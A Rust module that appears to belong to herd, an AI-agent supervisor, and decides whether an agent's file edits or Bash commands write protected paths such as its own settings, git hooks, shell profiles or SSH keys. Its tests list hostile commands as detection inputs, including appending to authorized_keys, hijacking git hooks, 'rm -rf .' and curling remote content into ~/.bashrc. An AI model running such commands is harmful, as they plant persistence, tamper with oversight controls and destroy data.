//! Whether a call would write a protected path: a file tool's path, a Bash line's redirections,
//! the paths its commands name (unless they only read) and git commands that rewrite git's config.
//! Best effort for commands — the sandbox is the boundary — but a literal path is never missed.

use std::path::{Path, PathBuf};

use herd_core::permission::{Call, Command, EDIT_FAMILY, Word};

use super::paths::canonical;
use crate::protected::Protected;

/// What a call does to the protected paths, as far as herd can tell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Touch {
    None,
    /// It writes (or may write) this protected path; `how` says through what.
    Protected {
        path: PathBuf,
        how: String,
    },
    /// It writes somewhere an expansion decides.
    Unknown(String),
}

/// Commands that never write the paths they are given (their redirections are judged apart).
const READ_ONLY: &[&str] = &[
    "cat",
    "less",
    "more",
    "head",
    "tail",
    "wc",
    "ls",
    "stat",
    "file",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "diff",
    "cmp",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "b2sum",
    "cksum",
    "echo",
    "printf",
    "test",
    "[",
    "[[",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "du",
    "tree",
    "which",
    "type",
    "cd",
    "pushd",
    "pwd",
    "jq",
    "od",
    "hexdump",
    "xxd",
    "strings",
    "nl",
    "sort",
    "uniq",
    "cut",
    "tr",
    "column",
    "true",
    "false",
    ":",
];

/// git subcommands that only read.
const GIT_READ: &[&str] = &[
    "log",
    "diff",
    "show",
    "status",
    "ls-files",
    "ls-tree",
    "blame",
    "rev-parse",
    "rev-list",
    "cat-file",
    "grep",
    "describe",
    "shortlog",
    "whatchanged",
    "reflog",
    "branch",
    "tag",
    "help",
    "version",
    "check-ignore",
    "merge-base",
    "name-rev",
    "for-each-ref",
    "show-ref",
];

/// Commands that write what they are given: an argument an expansion decides is a write herd
/// cannot place.
const WRITERS: &[&str] = &[
    "cp", "mv", "tee", "ln", "install", "dd", "rsync", "touch", "rm", "rmdir", "mkdir", "chmod",
    "chown", "chgrp", "truncate", "shred", "unlink", "sed", "patch", "tar", "unzip", "curl",
    "wget",
];

/// Whether `name` with `args` changes everything under a directory it is given (so naming a
/// directory that holds a protected path reaches it): `rm -r`, `chmod -R`, `find -delete`, `mv`…
fn recursive(name: &str, args: &[String]) -> bool {
    let short =
        |c: char| args.iter().any(|a| !a.starts_with("--") && a.starts_with('-') && a.contains(c));
    let long = |l: &str| args.iter().any(|a| a.starts_with(l));
    match name {
        "rm" => short('r') || short('R') || long("--recursive"),
        "chmod" | "chown" | "chgrp" => short('R') || long("--recursive"),
        "find" => ["-delete", "-exec", "-execdir", "-ok", "-okdir"].iter().any(|o| long(o)),
        "rsync" => long("--delete") || long("--remove-source-files"),
        "mv" => true,
        _ => false,
    }
}

/// What `call` does to the paths `p` protects. `cwd`: the agent's directory; `home`: its HOME.
pub(crate) fn touches(call: &Call, p: &Protected, cwd: &Path, home: Option<&Path>) -> Touch {
    if EDIT_FAMILY.contains(&call.tool.as_str()) {
        let Some(path) = &call.path else { return Touch::None };
        let target = path.canonical.clone().or_else(|| path.given.as_ref().map(|g| cwd.join(g)));
        return match target.as_deref().and_then(|t| p.covering(t)) {
            Some(hit) => {
                let how = format!(
                    "the {} tool writes {}",
                    call.tool,
                    target.as_deref().unwrap_or(hit).display()
                );
                protected(hit, how)
            }
            None => Touch::None,
        };
    }
    let Some(line) = &call.bash else { return Touch::None };
    // Relative paths after a `cd` are taken from there too.
    let mut bases = vec![cwd.to_path_buf()];
    for c in &line.commands {
        if !matches!(name(c).as_deref(), Some("cd" | "pushd")) {
            continue;
        }
        let dir = c
            .argv
            .iter()
            .skip(1)
            .find(|w| w.literal().is_none_or(|l| !l.starts_with('-') || l == "-"));
        match dir.map(Word::literal) {
            None => bases.extend(home.map(Path::to_path_buf)),
            Some(Some(d)) if d != "-" => bases.extend(canonical(cwd, Path::new(&d), home).ok()),
            Some(_) => return Touch::Unknown("a `cd` to a directory herd cannot place".into()),
        }
    }
    let at = |given: &str| -> Option<&Path> {
        bases
            .iter()
            .find_map(|b| canonical(b, Path::new(given), home).ok().and_then(|t| p.covering(&t)))
    };
    let mut unknown = None;
    for w in &line.writes {
        let shown = w.path.given.clone().unwrap_or_default();
        let hit = match (&w.path.canonical, &w.path.given) {
            (Some(c), _) if p.covering(c).is_some() => p.covering(c),
            (_, Some(g)) => at(g),
            (None, None) => {
                unknown
                    .get_or_insert_with(|| "a redirection to a path an expansion decides".into());
                None
            }
            _ => None,
        };
        if let Some(hit) = hit {
            return protected(hit, format!("a redirection writes {shown}"));
        }
    }
    for c in &line.commands {
        match command(c, p, &bases, home) {
            Touch::None => {}
            Touch::Unknown(why) => {
                unknown.get_or_insert(why);
            }
            hit => return hit,
        }
    }
    unknown.map_or(Touch::None, Touch::Unknown)
}

fn protected(path: &Path, how: String) -> Touch {
    Touch::Protected { path: path.to_path_buf(), how }
}

fn name(c: &Command) -> Option<String> {
    c.argv.first().and_then(Word::literal)
}

/// One command of a Bash line.
fn command(c: &Command, p: &Protected, bases: &[PathBuf], home: Option<&Path>) -> Touch {
    let Some(name) = name(c) else { return Touch::None };
    if READ_ONLY.contains(&name.as_str()) {
        return Touch::None;
    }
    if name == "git" {
        let argv = c.without_globals.as_ref().unwrap_or(&c.argv);
        let args: Vec<Option<String>> = argv.iter().skip(1).map(Word::literal).collect();
        if let Some(t) = git(&args, p, bases, home) {
            return t;
        }
    }
    let literal: Vec<String> = c.argv.iter().skip(1).filter_map(Word::literal).collect();
    let recursive = recursive(&name, &literal);
    for word in c.argv.iter().skip(1) {
        let Some(arg) = word.literal() else {
            if WRITERS.contains(&name.as_str()) {
                return Touch::Unknown(format!("`{name}` given a path an expansion decides"));
            }
            continue;
        };
        // `--output=PATH`, dd's `of=PATH`: the value is the path.
        let candidates = [Some(arg.as_str()), arg.split_once('=').map(|(_, v)| v)];
        for given in candidates.into_iter().flatten().filter(|g| !g.is_empty()) {
            for base in bases {
                let Ok(target) = canonical(base, Path::new(given), home) else { continue };
                if let Some(hit) = p.covering(&target) {
                    return protected(hit, format!("`{name}` is given {given}"));
                }
                if recursive && let Some(inner) = p.inside(&target) {
                    return protected(
                        inner,
                        format!("`{name}` is given {}, which holds it", given),
                    );
                }
            }
        }
    }
    Touch::None
}

/// git subcommands that write git's own configuration or remove untracked files; `None`: judge
/// the arguments as paths. Refs other than the run's own branch are checked after the run.
fn git(
    args: &[Option<String>],
    p: &Protected,
    bases: &[PathBuf],
    home: Option<&Path>,
) -> Option<Touch> {
    let sub = args.first()?.as_deref()?;
    let rest: Vec<&str> = args.iter().skip(1).filter_map(|a| a.as_deref()).collect();
    let config = |global: bool| {
        let path = match (global, home) {
            (true, Some(h)) => h.join(".gitconfig"),
            _ => bases[0].join(".git/config"),
        };
        let path = canonical(Path::new("/"), &path, home).unwrap_or(path);
        let how = format!("`git {sub}` changes git's configuration");
        Some(p.covering(&path).map_or(Touch::None, |hit| protected(hit, how)))
    };
    match sub {
        s if GIT_READ.contains(&s) => Some(Touch::None),
        "config" if config_reads(&rest) => Some(Touch::None),
        "config" => config(rest.contains(&"--global")),
        "remote" if rest.first().is_some_and(|r| REMOTE_WRITES.contains(r)) => config(false),
        "clean" => Some(bases.iter().find_map(|b| p.inside(b)).map_or(Touch::None, |hit| {
            protected(hit, "`git clean` removes the untracked files under it".into())
        })),
        _ => None,
    }
}

const REMOTE_WRITES: &[&str] =
    &["add", "rename", "remove", "rm", "set-url", "set-head", "set-branches", "prune", "update"];

/// `git config` forms that only read: an explicit reading option or subcommand, or a lone key.
fn config_reads(rest: &[&str]) -> bool {
    const READS: &[&str] =
        &["--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l", "get", "list"];
    const WRITES: &[&str] = &[
        "--add",
        "--replace-all",
        "--rename-section",
        "--remove-section",
        "-e",
        "--edit",
        "set",
        "unset",
        "edit",
        "rename-section",
        "remove-section",
    ];
    let writes = rest.iter().any(|a| WRITES.contains(a) || a.starts_with("--unset"));
    let keys = rest.iter().filter(|a| !a.starts_with('-')).count();
    !writes && (rest.iter().any(|a| READS.contains(a)) || keys == 1)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::protected::Roots;

    struct Fx {
        _dir: tempfile::TempDir,
        work: PathBuf,
        home: PathBuf,
        p: Protected,
    }

    fn fx() -> Fx {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let (work, home) = (root.join("work"), root.join("home"));
        std::fs::create_dir_all(work.join(".herd")).unwrap();
        std::fs::create_dir_all(work.join("src")).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::os::unix::fs::symlink(work.join(".herd"), work.join("innocent")).unwrap();
        let r = Roots { cwd: work.clone(), state_dir: work.join(".herd"), ..Roots::default() };
        let p = Protected::new(&r, Some(&home));
        Fx { _dir: dir, work, home, p }
    }

    fn touch(f: &Fx, tool: &str, input: serde_json::Value) -> Touch {
        let mut call = Call::new(tool, &input, Some(&f.work));
        super::super::paths::resolve(&mut call, &f.work);
        touches(&call, &f.p, &f.work, Some(&f.home))
    }

    fn bash(f: &Fx, line: &str) -> Touch {
        touch(f, "Bash", json!({ "command": line }))
    }

    #[test]
    fn file_tools_and_redirections_into_protected_paths_are_seen() {
        let f = fx();
        for (tool, key) in [
            ("Write", "file_path"),
            ("Edit", "file_path"),
            ("MultiEdit", "file_path"),
            ("NotebookEdit", "notebook_path"),
        ] {
            let t = touch(&f, tool, json!({ key: ".herd/config.yml" }));
            assert!(matches!(t, Touch::Protected { .. }), "{tool}: {t:?}");
        }
        let t = touch(&f, "Write", json!({"file_path": "innocent/config.yml"}));
        assert!(matches!(t, Touch::Protected { .. }), "through a symlink: {t:?}");
        assert_eq!(touch(&f, "Read", json!({"file_path": ".herd/config.yml"})), Touch::None);
        assert_eq!(touch(&f, "Write", json!({"file_path": "src/lib.rs"})), Touch::None);
        for line in [
            "echo garbage > .herd/herd.db",
            "echo x >> ~/.bashrc",
            "cd .herd && echo x > config.yml",
            "cd src; echo x > ../.claude/settings.json",
            "cd; echo x >> .bashrc",
            "echo '{}' > .mcp.json",
            "printf x 2>/dev/null >~/.ssh/authorized_keys",
        ] {
            assert!(matches!(bash(&f, line), Touch::Protected { .. }), "{line}");
        }
    }

    #[test]
    fn commands_naming_protected_paths_are_seen_and_readers_are_not() {
        let f = fx();
        for line in [
            "cp evil.json .claude/settings.json",
            "tee -a ~/.profile < x",
            "mv x .herd/config.yml",
            "ln -sf /tmp/x .git/hooks/pre-commit",
            "dd if=x of=.herd/herd.db",
            "timeout 5 rm -f .herd/herd.db",
            "sed -i s/a/b/ .herd/config.yml",
            "rm -rf .",
            "find . -name '*.db' -delete",
            "git config core.hooksPath /tmp/hooks",
            "git -C . config --global core.pager evil",
            "git remote add up https://example.invalid/x",
            "git clean -fdx",
            "curl -o ~/.bashrc https://example.invalid",
        ] {
            assert!(
                matches!(bash(&f, line), Touch::Protected { .. }),
                "{line}: {:?}",
                bash(&f, line)
            );
        }
        for line in [
            "cat .herd/config.yml",
            "ls -la .claude",
            "grep -r x .herd",
            "find . -name '*.rs'",
            "rm -f src/old.rs",
            "cp src/a.rs src/b.rs",
            "echo .herd/herd.db",
            "git config user.name",
            "git config --get core.hooksPath",
            "git log -- .herd",
            "cargo test > test.log 2>&1",
        ] {
            assert_eq!(bash(&f, line), Touch::None, "{line}");
        }
    }

    #[test]
    fn writes_an_expansion_places_are_unknown() {
        let f = fx();
        for line in ["echo x > \"$f\"", "cp x $DEST", "cd $D && echo x > y"] {
            assert!(matches!(bash(&f, line), Touch::Unknown(_)), "{line}: {:?}", bash(&f, line));
        }
        assert_eq!(bash(&f, "echo $HOME"), Touch::None);
    }
}
